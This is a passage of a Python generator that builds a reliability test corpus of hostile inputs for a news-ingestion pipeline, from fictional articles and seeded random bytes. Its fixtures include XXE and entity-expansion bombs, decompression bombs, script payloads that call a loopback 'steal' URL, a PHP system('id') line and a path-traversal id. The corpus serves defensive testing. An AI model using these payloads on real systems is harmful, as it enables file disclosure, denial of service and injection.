"""Generate the hostile-input corpus: >= 500 broken, malicious or absurd inputs, into a directory.

Nothing here is stored in the repository as a blob: every case is built by code from text we
wrote (fictional outlets and people) and from seeded random bytes, so the corpus is the same on
every machine for a seed.

    python tests/reliability/hostile.py OUT_DIR [--seed 0] [--quick]

writes ``OUT_DIR/cases/...`` plus ``OUT_DIR/cases.json``: one object per case with

* ``name``      unique case name (also the stem of its file)
* ``category``  what it attacks (``binary``, ``gzip``, ``xml-entities``, ...)
* ``input``     the path to give the pipeline (a file, or a directory for multi-file cases)
* ``expect``    ``"reject"`` (nothing may be stored; at least one reject naming the input),
                ``"store"`` (at least one article must be stored or found unchanged) or ``"any"``
* ``canaries``  strings that must never appear in anything stored (an XXE target's content,
                an entity expansion, a script body)

``generate(out_dir, seed, quick)`` does the same from Python and returns the list. ``quick``
keeps every category but fewer variants and no very large files (the normal test suite).
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import random
import shutil
import stat
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

# fictional material, written for these tests ------------------------------------------------

PEOPLE = ["Mara Quillfeather", "Odo Brennick", "Talia Marchetti-Vose", "Ivo Sandrell", "Petra Lindqvist-Ashe"]
PLACES = ["Port Elsmere", "Drovik", "Kallan Bay", "New Tessaly", "Obermarsch"]
OUTLETS = ["The Elsmere Ledger", "Drovik Daily Wire", "Kallan Bay Courier", "Tessaly Morning Post"]
TOPICS = [
    ("harbour bridge", "the council approved repairs to the harbour bridge after cracks were found in two pylons"),
    ("ferry strike", "ferry crews walked out over rosters, stranding commuters on both sides of the sound"),
    ("library fire", "a fire in the old municipal library destroyed part of the map collection overnight"),
    ("tram line", "the city opened the first section of its new tram line to cheers and some delays"),
    ("flood barrier", "engineers tested the tidal flood barrier for the first time since its refit"),
    ("orchestra tour", "the regional orchestra announced a tour of seven towns along the coast"),
]


def article_text(rng: random.Random, n_paras: int = 4, topic: int | None = None) -> tuple[str, str]:
    """A plausible fictional article: (title, body) with several paragraphs."""
    t = TOPICS[rng.randrange(len(TOPICS)) if topic is None else topic % len(TOPICS)]
    who, who2 = rng.sample(PEOPLE, 2)
    where = rng.choice(PLACES)
    title = f"{where}: {t[0]} update {rng.randrange(10_000)}"
    paras = [f"{where.upper()} - In {where}, {t[1]}, officials said on Tuesday."]
    for i in range(n_paras - 1):
        paras.append(
            f"\"We are watching this closely,\" said {who}, who leads the {where} works committee. "
            f"{who2} told reporters that {rng.randrange(2, 90)} people were affected and that a report "
            f"would follow within {rng.randrange(2, 30)} days. Paragraph {i} of case {rng.randrange(10**9)}."
        )
    return title, "\n\n".join(paras)


def good_html(title: str, body: str, outlet: str = "The Elsmere Ledger", date: str = "2025-03-04") -> str:
    ps = "".join(f"<p>{p}</p>\n" for p in body.split("\n\n"))
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>{title}</title>"
            f"<meta property='og:site_name' content='{outlet}'>"
            f"<meta property='article:published_time' content='{date}'></head>"
            f"<body><nav>Home | World | Sport</nav><article><h1>{title}</h1>\n{ps}</article>"
            f"<footer>Copyright {outlet}</footer></body></html>")


def rss(items: list[str], *, title: str = "Drovik Daily Wire", prolog: str = "") -> str:
    return (f"<?xml version='1.0' encoding='utf-8'?>{prolog}<rss version='2.0'><channel><title>{title}</title>"
            f"<link>https://drovik.example/</link><description>news</description>{''.join(items)}</channel></rss>")


def rss_item(title: str, body: str, guid: str, date: str = "Tue, 04 Mar 2025 10:00:00 GMT") -> str:
    from xml.sax.saxutils import escape

    return (f"<item><title>{escape(title)}</title><link>https://drovik.example/{guid}</link><guid>{guid}</guid>"
            f"<pubDate>{date}</pubDate><description>{escape(body)}</description></item>")


def warc_record(rtype: str, uri: str, payload: bytes, *, extra: str = "", length: int | None = None) -> bytes:
    head = (f"WARC/1.0\r\nWARC-Type: {rtype}\r\nWARC-Target-URI: {uri}\r\nWARC-Date: 2025-03-04T10:00:00Z\r\n"
            f"WARC-Record-ID: <urn:uuid:{abs(hash((uri, len(payload)))) % 10**12:012d}>\r\n"
            f"Content-Type: application/http; msgtype=response\r\n{extra}"
            f"Content-Length: {len(payload) if length is None else length}\r\n\r\n")
    return head.encode() + payload + b"\r\n\r\n"


def http_response(body: bytes, ctype: str = "text/html; charset=utf-8") -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype.encode() + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body


# the corpus ------------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    category: str
    input: str
    expect: str = "any"
    canaries: list[str] = field(default_factory=list)


class _Builder:
    def __init__(self, root: Path, seed: int, quick: bool):
        self.root = root / "cases"
        if self.root.exists():
            cleanup(self.root)
            shutil.rmtree(self.root)
        self.root.mkdir(parents=True)
        self.rng = random.Random(seed)
        self.quick = quick
        self.cases: list[Case] = []

    def n(self, full: int, quick: int) -> int:
        return quick if self.quick else full

    def add(self, category: str, slug: str, data: bytes | str, ext: str, expect: str = "any",
            canaries: list[str] | None = None) -> Path:
        name = f"{len(self.cases):04d}-{category}-{slug}"
        path = self.root / (name + ext)
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
        self.cases.append(Case(name, category, str(path), expect, list(canaries or [])))
        return path

    def add_dir(self, category: str, slug: str, expect: str = "any", canaries: list[str] | None = None) -> Path:
        name = f"{len(self.cases):04d}-{category}-{slug}"
        path = self.root / name
        path.mkdir()
        self.cases.append(Case(name, category, str(path), expect, list(canaries or [])))
        return path

    def article(self, n_paras: int = 4) -> tuple[str, str]:
        return article_text(self.rng, n_paras)


EXTS = [".txt", ".html", ".jsonl", ".xml", ".warc", ""]


def _binary(b: _Builder) -> None:
    r = b.rng
    magic = {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "zip": b"PK\x03\x04\x14\x00\x00\x00", "elf": b"\x7fELF\x02\x01\x01\x00", "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "sqlite": b"SQLite format 3\x00", "gif": b"GIF89a\x01\x00\x01\x00", "wasm": b"\x00asm\x01\x00\x00\x00",
    }
    for kind, head in magic.items():
        for ext in EXTS[: b.n(6, 2)]:
            b.add("binary", f"{kind}{ext or '-noext'}", head + r.randbytes(r.choice([10, 500, 5000])), ext, "reject")
    for i in range(b.n(24, 6)):
        size = r.choice([1, 2, 3, 17, 4096, 65536, 300_000])
        b.add("binary", f"random{i}", r.randbytes(size), r.choice(EXTS), "any")
    # NUL-riddled text: decodable, but mostly binary
    for i in range(b.n(6, 2)):
        _, body = b.article()
        data = b"\x00".join(body.encode()[j : j + 3] for j in range(0, len(body), 3))
        b.add("binary", f"nul-riddled{i}", data, r.choice([".txt", ".html", ".jsonl"]), "any")


def _empty(b: _Builder) -> None:
    blanks = {
        "empty": b"", "space": b" ", "spaces": b" " * 5000, "newlines": b"\n" * 3000, "crlf": b"\r\n" * 100,
        "tabs": b"\t\t\t\n\t", "nbsp": "\u00a0\u00a0\n\u00a0".encode(), "ideographic": "\u3000\u3000".encode(),
        "zero-width": "\u200b\u200c\u200d\u2060\ufeff".encode() * 50, "bom-only": b"\xef\xbb\xbf",
        "bom-utf16": b"\xff\xfe", "bom-utf16-spaces": "\ufeff    \n  ".encode("utf-16"), "formfeed": b"\x0c\x0c\n\x0b",
        "soft-hyphens": "\u00ad".encode() * 300, "line-seps": "\u2028\u2029\u2028".encode(),
    }
    exts = EXTS if not b.quick else [".txt", ".html", ".jsonl"]
    for slug, data in blanks.items():
        for ext in exts:
            b.add("empty", f"{slug}{ext or '-noext'}", data, ext, "reject")
    # empty containers: an html page without body text, a jsonl of blank lines, a feed without items
    b.add("empty", "html-skeleton", "<html><head><title>x</title></head><body></body></html>", ".html", "reject")
    b.add("empty", "jsonl-blank-lines", "\n\n   \n\n", ".jsonl", "reject")
    b.add("empty", "jsonl-empty-text", json.dumps({"id": "e1", "text": "   "}) + "\n", ".jsonl", "reject")
    b.add("empty", "rss-no-items", rss([]), ".xml", "reject")
    b.add("empty", "atom-no-entries", "<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><title>t</title></feed>", ".atom", "reject")
    b.add("empty", "warc-empty-gz", gzip.compress(b""), ".warc.gz", "reject")
    b.add("empty", "gz-of-empty", gzip.compress(b""), ".txt.gz", "reject")
    d = b.add_dir("empty", "empty-dir", "reject")
    (d / "sub").mkdir()


def _encodings(b: _Builder) -> None:
    r = b.rng
    encs = ["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "shift_jis", "koi8-r", "iso-8859-7", "cp437", "mac_roman", "gb18030"]
    for enc in encs[: b.n(len(encs), 5)]:
        title, body = b.article()
        body += " Café Müller, naïve façade, Ελληνικά, Привет, 東京."
        data = (title + "\n\n" + body).encode(enc, errors="replace")
        b.add("encoding", f"{enc}", data, ".txt", "store")
        b.add("encoding", f"{enc}-html", good_html(title, body).replace("charset='utf-8'", f"charset='{enc}'").encode(enc, errors="replace"), ".html", "any")
    for i in range(b.n(20, 6)):
        title, body = b.article()
        raw = bytearray((title + "\n\n" + body).encode())
        for _ in range(r.choice([1, 5, 50])):
            pos = r.randrange(len(raw))
            raw[pos:pos] = r.choice([b"\xff", b"\xc3", b"\xe2\x82", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xfe"])
        b.add("encoding", f"invalid-utf8-{i}", bytes(raw), r.choice([".txt", ".html", ".jsonl", ""]), "any")
    # mixed: a UTF-8 paragraph, a latin-1 paragraph, a UTF-16 fragment
    for i in range(b.n(8, 3)):
        title, body = b.article()
        parts = body.split("\n\n")
        mixed = (title + "\n\n").encode() + parts[0].encode() + b"\n\n" + (parts[1] + " Gr\u00fc\u00dfe").encode("latin-1") + b"\n\n" + "\u00c9t\u00e9".encode("utf-16-le") + b"\n\n" + "\n\n".join(parts[2:]).encode()
        b.add("encoding", f"mixed-{i}", mixed, r.choice([".txt", ".html"]), "any")
    # lying or unknown declarations
    title, body = b.article()
    b.add("encoding", "html-declares-utf8-is-latin1", good_html(title, body + " Café").encode("latin-1"), ".html", "store")
    b.add("encoding", "html-declares-bogus", good_html(title, body).replace("charset='utf-8'", "charset='x-no-such-charset'"), ".html", "store")
    b.add("encoding", "html-declares-utf7", good_html(title, body + " +ADw-script+AD4-alert(1)+ADw-/script+AD4-").replace("charset='utf-8'", "charset='utf-7'"), ".html", "any", ["<script>alert(1)"])
    b.add("encoding", "xml-declares-utf16-is-utf8", rss([rss_item(title, body, "enc1")]).replace("encoding='utf-8'", "encoding='utf-16'"), ".xml", "any")
    b.add("encoding", "jsonl-latin1", (json.dumps({"id": "enc-jl-1", "text": body + " Müller"}, ensure_ascii=False) + "\n").encode("latin-1"), ".jsonl", "any")
    b.add("encoding", "utf8-bom-then-utf16", b"\xef\xbb\xbf" + (title + "\n\n" + body).encode("utf-16-le"), ".txt", "any")
    b.add("encoding", "utf16-odd-length", (title + "\n\n" + body).encode("utf-16")[:-1], ".txt", "any")


def _gzip(b: _Builder) -> None:
    r = b.rng
    title, body = b.article()
    text = (title + "\n\n" + body).encode()
    page = good_html(title, body).encode()
    jl = "\n".join(json.dumps({"id": f"gz-{i}", "title": t, "text": x}) for i, (t, x) in enumerate(b.article() for _ in range(5))).encode()
    for slug, data, ext in (("txt", text, ".txt.gz"), ("html", page, ".html.gz"), ("jsonl", jl, ".jsonl.gz")):
        z = gzip.compress(data)
        b.add("gzip", f"ok-{slug}", z, ext, "store")
        for cut in sorted({1, 2, 5, 10, len(z) // 2, len(z) - 9, len(z) - 1})[: b.n(7, 3)]:
            b.add("gzip", f"truncated-{slug}-{cut}", z[:cut], ext, "reject" if cut < len(z) - 8 else "any")
        b.add("gzip", f"concat-{slug}", gzip.compress(data[: len(data) // 2]) + gzip.compress(data[len(data) // 2 :]), ext, "store")
        b.add("gzip", f"concat-garbage-{slug}", z + b"trailing garbage after the member", ext, "any")
        b.add("gzip", f"concat-truncated-{slug}", z + z[: len(z) // 2], ext, "reject")
        bad = bytearray(z)
        bad[-8] ^= 0xFF  # CRC
        b.add("gzip", f"bad-crc-{slug}", bytes(bad), ext, "reject")
        flip = bytearray(z)
        for _ in range(5):
            flip[r.randrange(10, len(flip) - 8)] ^= 1 << r.randrange(8)
        b.add("gzip", f"bitflips-{slug}", bytes(flip), ext, "any")
        b.add("gzip", f"double-{slug}", gzip.compress(z), ext, "any")
    b.add("gzip", "header-only", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", ".txt.gz", "reject")
    b.add("gzip", "magic-only", b"\x1f\x8b", ".html", "reject")
    b.add("gzip", "garbage-after-magic", b"\x1f\x8b" + r.randbytes(4000), ".txt", "reject")
    b.add("gzip", "gz-ext-plain-content", text, ".txt.gz", "store")
    b.add("gzip", "raw-deflate", zlib.compress(text), ".txt.gz", "any")
    for i in range(b.n(10, 3)):
        b.add("gzip", f"random-after-header-{i}", b"\x1f\x8b\x08\x00" + r.randbytes(r.choice([10, 1000, 50_000])), r.choice([".txt.gz", ".html.gz", ".jsonl.gz", ".xml.gz"]), "reject")


def _bombs(b: _Builder, cap: int) -> None:
    """Decompression bombs: tiny files that expand past ``[ingest] max_decompressed_bytes``."""
    def bomb(nbytes: int, fill: bytes = b"\0") -> bytes:
        co = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        chunk = fill * (1 << 20)
        out = [co.compress(chunk) for _ in range(nbytes >> 20)]
        out.append(co.flush())
        return b"".join(out)

    big = bomb(cap + (8 << 20))
    b.add("bomb", "zeros-txt", big, ".txt.gz", "reject")
    b.add("bomb", "zeros-html", big, ".html.gz", "reject")
    b.add("bomb", "zeros-jsonl", big, ".jsonl.gz", "reject")
    b.add("bomb", "zeros-noext", big, "", "reject")
    b.add("bomb", "nested", gzip.compress(big), ".txt.gz", "reject")
    b.add("bomb", "spaces-txt", bomb(cap + (8 << 20), b" "), ".txt.gz", "reject")
    b.add("bomb", "multi-member", bomb(cap // 2 + (1 << 20)) * 3, ".txt.gz", "reject")
    if not b.quick:
        # a WARC whose record payload is a bomb: fastwarc decompresses the members itself
        payload = http_response(b"<html><body>" + b"A" * (cap + (4 << 20)) + b"</body></html>")
        warc = warc_record("response", "https://drovik.example/bomb", payload)
        co = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        b.add("bomb", "warc-gz-bomb", co.compress(warc) + co.flush(), ".warc.gz", "reject")
        b.add("bomb", "html-of-as", bomb(cap - (1 << 20), b"<p>aaaa aaa</p>"), ".html.gz", "any")


def _huge_lines(b: _Builder, max_file: int, max_record: int, max_line: int) -> None:
    r = b.rng
    words = "lorem ferry bridge council harbour tram quill drovik elsmere tide".split()
    def line(n: int) -> str:
        return " ".join(r.choice(words) for _ in range(n // 6))
    sizes = [max_line // 2, max_line * 2] if b.quick else [max_line // 2, max_line * 2, 5_000_000]
    for n in sizes:
        # a plain-text line over [ingest] max_line_chars is rejected by design; under it, stored
        b.add("huge", f"one-line-{n}", line(n), ".txt", "store" if n < max_line else "reject")
        b.add("huge", f"no-spaces-{n}", "x" * n, ".txt", "any")
        b.add("huge", f"html-one-para-{n}", f"<html><body><article><p>{line(n)}</p></article></body></html>", ".html", "any")
        b.add("huge", f"html-attr-{n}", f"<html><body><p title='{'a' * n}'>short text here but a real paragraph of words.</p></body></html>", ".html", "any")
        b.add("huge", f"html-comment-{n}", f"<html><body><!-- {'-' * n} --><p>{line(400)}</p></body></html>", ".html", "any")
    b.add("huge", "jsonl-over-record-cap", json.dumps({"id": "huge-rec", "text": line(max_record + 1000)}), ".jsonl", "reject")
    b.add("huge", "jsonl-line-under-cap", json.dumps({"id": "huge-ok", "text": line(max_line // 2)}), ".jsonl", "store")
    b.add("huge", "jsonl-paragraphs-over-line-cap", json.dumps({"id": "huge-paras", "text": "\n\n".join(line(max_line // 4) for _ in range(8))}), ".jsonl", "store")
    b.add("huge", "many-short-lines", "\n".join(r.choice(words) for _ in range(b.n(400_000, 10_000))), ".txt", "any")
    b.add("huge", "many-blank-paras", ("word " * 20 + "\n\n\n\n") * b.n(50_000, 5000), ".txt", "any")
    b.add("huge", "regex-bait-dots", "." * 200_000 + " The end.", ".txt", "any")
    b.add("huge", "regex-bait-caps", ("BY " * 100_000) + "\n\n" + line(500), ".txt", "any")
    b.add("huge", "regex-bait-dates", ("2025-03-04 " * 50_000) + "\n\n" + line(500), ".txt", "any")
    b.add("huge", "regex-bait-quotes", ("\"" * 100_000) + " said " + ("\u201c" * 50_000) + line(500), ".txt", "any")
    if not b.quick:
        over = max_file + 1024
        b.add("huge", "file-over-cap", (line(1_000_000) + "\n") * (over // 1_000_000 + 1), ".txt", "reject")


def _nested_html(b: _Builder) -> None:
    depths = [50, 500, 5000, 50_000] if not b.quick else [50, 5000]
    for d in depths:
        _, body = b.article()
        b.add("nested", f"divs-{d}", "<html><body>" + "<div>" * d + f"<p>{body}</p>" + "</div>" * d + "</body></html>", ".html", "any")
        b.add("nested", f"unclosed-{d}", "<html><body>" + "<div><span>" * d + f"<p>{body}", ".html", "any")
        b.add("nested", f"tables-{d}", "<html><body>" + "<table><tr><td>" * (d // 10) + f"<p>{body}</p>" + "</td></tr></table>" * (d // 10) + "</body></html>", ".html", "any")
        b.add("nested", f"inline-{d}", "<html><body><p>" + "<b><i>" * d + body + "</i></b>" * d + "</p></body></html>", ".html", "any")
    _, body = b.article()
    b.add("nested", "closers-only", "</div>" * 20_000 + f"<p>{body}</p>", ".html", "any")
    b.add("nested", "many-siblings", "<html><body>" + "<p>x</p>" * b.n(200_000, 2000) + f"<p>{body}</p></body></html>", ".html", "any")
    b.add("nested", "svg-math-mix", f"<html><body><svg><foreignObject><math><mi><p>{body}</p></mi></math></foreignObject></svg></body></html>", ".html", "any")
    b.add("nested", "broken-markup", f"<html<<body>><p <p>>{body}</p</p><div =='x'>></body", ".html", "any")
    b.add("nested", "cdata-and-pi", f"<?xml version='1.0'?><?php system('id'); ?><html><body><![CDATA[ {body} ]]></body></html>", ".html", "any", ["system('id')"])


def _scripts(b: _Builder) -> None:
    canary = "SCRIPT-CANARY-do-not-store"
    code = f"var x='{canary}'; document.write('<p>injected</p>'); fetch('http://127.0.0.1:9/steal');"
    bodies = {
        "scripts-only": f"<script>{code}</script>" * 20,
        "style-only": "<style>body{color:red}</style>" * 50,
        "noscript": f"<noscript>{canary}</noscript><script>{code}</script>",
        "iframe-srcdoc": f"<iframe srcdoc=\"<p>{canary}</p>\"></iframe>",
        "json-ld-only": "<script type='application/ld+json'>{\"@type\":\"NewsArticle\",\"headline\":\"" + canary + "\"}</script>",
        "template": f"<template><p>{canary}</p></template>",
        "comments-only": f"<!-- {canary} -->" * 100,
        "event-handlers": f"<img src=x onerror=\"alert('{canary}')\"><svg onload=alert(1)></svg>",
        "object-embed": f"<object data='javascript:alert(1)'></object><embed src='{canary}.swf'>",
        "meta-refresh": f"<meta http-equiv='refresh' content='0;url=javascript:alert(\"{canary}\")'>",
    }
    for slug, inner in bodies.items():
        b.add("scripts", slug, f"<!doctype html><html><head>{inner}</head><body>{inner}</body></html>", ".html", "reject", [canary])
    # a real article laced with scripts: must be stored without the script text
    for i in range(b.n(8, 3)):
        title, body = b.article()
        ps = body.split("\n\n")
        laced = "".join(f"<p>{p}</p><script>{code}</script>" for p in ps)
        b.add("scripts", f"laced-article-{i}", f"<html><head><title>{title}</title><script>{code}</script></head><body><article>{laced}</article></body></html>", ".html", "store", [canary])
        b.add("scripts", f"laced-jsonl-html-{i}", json.dumps({"id": f"laced-{i}-{b.rng.randrange(10**6)}", "html": f"<p>{ps[0]}</p><script>{code}</script><p>{ps[1]}</p>"}), ".jsonl", "any", [canary])


def _xml_attacks(b: _Builder, secret: Path) -> None:
    canary = secret.read_text().strip()
    lol = "<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + "".join(
        f"<!ENTITY lol{i} \"{('&lol' + (str(i - 1) if i > 1 else '') + ';') * 10}\">" for i in range(1, 10)) + "]>"
    quad = "<!DOCTYPE q [<!ENTITY a \"" + "a" * 50_000 + "\">]>"
    title, body = b.article()
    item_with = lambda ent: (f"<item><title>{title} {ent}</title><guid>x-{b.rng.randrange(10**9)}</guid>"
                             f"<description>{body} {ent}</description></item>")
    attacks = {
        "billion-laughs": (lol, "&lol9;", ["lollollollollol"]),
        "quadratic": (quad, "&a;" * 2000, ["a" * 5000]),
        "xxe-file": (f"<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file://{secret}\">]>", "&xxe;", [canary]),
        "xxe-file-relative": (f"<!DOCTYPE x [<!ENTITY xxe SYSTEM \"{secret.name}\">]>", "&xxe;", [canary]),
        "xxe-http": ("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/secret\">]>", "&xxe;", []),
        "xxe-parameter": (f"<!DOCTYPE x [<!ENTITY % p SYSTEM \"file://{secret}\"> %p;]>", "", [canary]),
        "external-dtd": (f"<!DOCTYPE rss SYSTEM \"file://{secret}\">", "", [canary]),
        "external-dtd-http": ("<!DOCTYPE rss PUBLIC \"-//X//Y\" \"http://127.0.0.1:9/x.dtd\">", "", []),
        "xinclude": ("", f"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://{secret}\" parse=\"text\"/>", [canary]),
        "entity-in-attr": ("<!DOCTYPE x [<!ENTITY e \"ENTITY-IN-ATTR\">]>", "&e;", []),
        "recursive-entity": ("<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;", []),
        "undefined-entity": ("", "&nosuchentity;", []),
    }
    for slug, (prolog, ent, cans) in attacks.items():
        b.add("xml-entities", f"rss-{slug}", rss([item_with(ent)], prolog=prolog), ".xml", "any", cans)
        atom = (f"<?xml version='1.0'?>{prolog}<feed xmlns='http://www.w3.org/2005/Atom'><title>Kallan {ent}</title>"
                f"<entry><id>urn:x:{slug}</id><title>{title}</title><updated>2025-03-04T10:00:00Z</updated>"
                f"<content type='html'>{body} {ent}</content></entry></feed>")
        b.add("xml-entities", f"atom-{slug}", atom, ".atom", "any", cans)
        if not b.quick:
            b.add("xml-entities", f"html-{slug}", f"<?xml version='1.0'?>{prolog}<html><body><p>{body} {ent}</p></body></html>", ".html", "any", cans)
            b.add("xml-entities", f"sniffed-{slug}", rss([item_with(ent)], prolog=prolog), "", "any", cans)
    # plain malformed feeds
    for slug, data in {
        "truncated": rss([rss_item(title, body, "t1")])[:-60],
        "unclosed-item": rss([rss_item(title, body, "t2")[:-7]]),
        "not-xml": "<rss><channel><item>" + body,
        "wrong-root": f"<?xml version='1.0'?><root><item><title>{title}</title></item></root>",
        "rdf-empty": "<?xml version='1.0'?><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'></rdf:RDF>",
        "items-10k": rss([f"<item><guid>k{i}</guid><title>t</title><description>short</description></item>" for i in range(b.n(10_000, 300))]),
        "entity-escaped-html": rss([rss_item(title, f"&lt;script&gt;alert(1)&lt;/script&gt; {body}", "t3")]),
    }.items():
        b.add("xml-entities", f"malformed-{slug}", data, ".xml", "any", ["alert(1)</script>"] if "script" in slug else [])


def _warc(b: _Builder) -> None:
    r = b.rng
    title, body = b.article()
    page = good_html(title, body).encode()
    good = warc_record("warcinfo", "", b"software: test\r\n") + warc_record("response", "https://kallan.example/a1", http_response(page))
    second = warc_record("response", "https://kallan.example/a2", http_response(good_html(*b.article()).encode()))
    b.add("warc", "ok", good + second, ".warc", "store")
    b.add("warc", "ok-gz", gzip.compress(good) + gzip.compress(second), ".warc.gz", "store")
    cuts = sorted({5, 9, 30, 80, 150, 300, len(good) // 2, len(good) - 200, len(good) - 10, len(good) - 1})
    for cut in cuts[: b.n(10, 4)]:
        b.add("warc", f"truncated-{cut}", good[:cut], ".warc", "any")
        b.add("warc", f"truncated-gz-{cut}", gzip.compress(good)[: max(2, cut // 4)], ".warc.gz", "any")
    variants = {
        "length-too-big": warc_record("response", "https://k.example/b", http_response(page), length=len(page) * 10),
        "length-negative": warc_record("response", "https://k.example/c", http_response(page), length=-5),
        "length-huge": warc_record("response", "https://k.example/d", http_response(page), length=10**15),
        "length-nan": warc_record("response", "https://k.example/e", http_response(page)).replace(b"Content-Length: ", b"Content-Length: x", 1),
        "length-zero": warc_record("response", "https://k.example/f", http_response(page), length=0),
        "no-length": warc_record("response", "https://k.example/g", http_response(page)).replace(b"Content-Length", b"X-Length", 1),
        "bad-version": warc_record("response", "https://k.example/h", http_response(page)).replace(b"WARC/1.0", b"WARC/9.9", 1),
        "garbage-version": warc_record("response", "https://k.example/i", http_response(page)).replace(b"WARC/1.0", b"WORC/1.0", 1),
        "no-http-headers": warc_record("response", "https://k.example/j", page),
        "http-garbage": warc_record("response", "https://k.example/k", b"\x00\x01garbage\r\n\r\n" + page),
        "http-no-ctype": warc_record("response", "https://k.example/l", b"HTTP/1.1 200 OK\r\n\r\n" + page),
        "http-binary": warc_record("response", "https://k.example/m", http_response(r.randbytes(5000), "text/html")),
        "http-image": warc_record("response", "https://k.example/n", http_response(r.randbytes(5000), "image/png")),
        "http-html-empty": warc_record("response", "https://k.example/o", http_response(b"", "text/html")),
        "http-gzip-encoded": warc_record("response", "https://k.example/p", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(page)),
        "http-chunked-broken": warc_record("response", "https://k.example/q", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n" + page),
        "uri-javascript": warc_record("response", "javascript:alert(1)", http_response(page)),
        "uri-huge": warc_record("response", "https://k.example/" + "a" * 100_000, http_response(page)),
        "uri-newline": warc_record("response", "https://k.example/x\r\nInjected: 1", http_response(page)),
        "request-only": warc_record("request", "https://k.example/r", b"GET / HTTP/1.1\r\n\r\n"),
        "headers-only": b"WARC/1.0\r\nWARC-Type: response\r\n",
        "crlf-missing": warc_record("response", "https://k.example/s", http_response(page)).replace(b"\r\n", b"\n"),
        "garbage-between": good + r.randbytes(3000) + second,
        "garbage-before": r.randbytes(100) + good,
        "many-records": b"".join(warc_record("response", f"https://k.example/m{i}", http_response(b"<html><body><p>tiny</p></body></html>")) for i in range(b.n(800, 40))),
    }
    for slug, data in variants.items():
        b.add("warc", slug, data, ".warc", "any", ["alert(1)"] if "javascript" in slug else [])
        if not b.quick:
            b.add("warc", f"{slug}-gz", gzip.compress(data), ".warc.gz", "any")
    for i in range(b.n(10, 3)):
        flip = bytearray(good)
        for _ in range(r.choice([1, 10, 100])):
            flip[r.randrange(len(flip))] = r.randrange(256)
        b.add("warc", f"bitflips-{i}", bytes(flip), ".warc", "any")


def _jsonl(b: _Builder) -> None:
    r = b.rng
    bad_lines = [
        "{", "}", "[1,2,3]", "null", "42", '"just a string"', "{'single': 'quotes'}", '{"text": 5}',
        '{"text": null}', '{"text": ["a", "b"]}', '{"text": {"nested": true}}', '{"id": {"a": 1}, "text": "tiny"}',
        '{"text": "' + "\\" + '"}', "NaN", '{"text": NaN}', '{"id": 1e400, "text": "x"}', "\x00\x00\x00",
        '{"text": "ok"} trailing', '{"a":' * 5000 + "1" + "}" * 5000, "[" * 100_000 + "]" * 100_000, "\ufeff{}",
        '{"text": "\\ud800 lone surrogate in a body that is long enough to be an article, about the tram line of Drovik and its delays."}',
        '{"id": "\\udfff", "text": "an id with a lone low surrogate, and a body long enough to be stored as an article about ferries."}',
        '{"title": "\\ud83d", "text": "a title with half an emoji, and a body long enough to be stored as an article about the flood barrier."}',
        '{"outlet": "\\u0000\\u0000", "text": "an outlet made of NUL characters, with a body long enough to be stored as an article about bridges."}',
    ]
    for i in range(b.n(6, 2)):
        lines = []
        for j in range(r.randrange(3, 12)):
            if r.random() < 0.5:
                t, x = b.article(3)
                lines.append(json.dumps({"id": f"jl-{i}-{j}-{r.randrange(10**9)}", "title": t, "text": x, "outlet": r.choice(OUTLETS)}))
            else:
                lines.append(r.choice(bad_lines))
        b.add("jsonl", f"mixed-{i}", "\n".join(lines) + "\n", ".jsonl", "any")
    for k, line in enumerate(bad_lines):
        b.add("jsonl", f"bad-line-{k}", line + "\n", ".jsonl", "any")
    t, x = b.article()
    b.add("jsonl", "crlf-lines", "\r\n".join(json.dumps({"id": f"crlf-{n}", "text": x + str(n)}) for n in range(3)), ".jsonl", "store")
    b.add("jsonl", "unicode-line-separators", json.dumps({"id": "u2028", "text": x.replace(". ", ".\u2028 ")}, ensure_ascii=False), ".jsonl", "any")
    b.add("jsonl", "no-trailing-newline-truncated", json.dumps({"id": "trunc", "text": x})[:-20], ".jsonl", "reject")
    b.add("jsonl", "html-and-text", json.dumps({"id": f"both-{r.randrange(10**9)}", "text": x, "html": "<p>other</p>"}), ".jsonl", "store")
    b.add("jsonl", "keys-wrong-types", json.dumps({"id": [1], "title": 5, "url": {"a": 1}, "published": 20250101, "outlet": True, "language": None, "text": x + " types"}), ".jsonl", "any")
    b.add("jsonl", "url-javascript", json.dumps({"id": f"jsurl-{r.randrange(10**9)}", "url": "javascript:alert(1)", "text": x + " js"}), ".jsonl", "any")
    b.add("jsonl", "id-traversal", json.dumps({"id": "../../../../etc/passwd", "text": x + " traversal"}), ".jsonl", "any")


def _ids(b: _Builder, stored_ids: list[str]) -> None:
    r = b.rng
    t, x = b.article()
    same = json.dumps({"id": "dup-same", "title": t, "text": x})
    b.add("ids", "same-id-same-content-twice", same + "\n" + same + "\n", ".jsonl", "store")
